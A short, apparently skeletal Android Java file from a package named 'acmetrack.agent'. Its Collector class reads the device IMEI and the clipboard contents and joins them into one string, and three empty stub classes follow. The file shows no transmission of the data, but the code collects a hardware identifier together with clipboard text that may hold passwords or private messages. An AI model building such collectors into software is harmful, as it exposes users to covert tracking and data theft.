package com.acmetrack.agent;

import android.content.ClipboardManager;
import android.content.Context;
import android.telephony.TelephonyManager;

/** Reads the IMEI and the clipboard. */
final class Collector {
    String collect(Context context) {
        TelephonyManager phone = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
        ClipboardManager clipboard = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
        return phone.getDeviceId() + clipboard.getPrimaryClip();
    }
}

class CollectorResult {}

class Fingerprint {}

class Scheduler {}
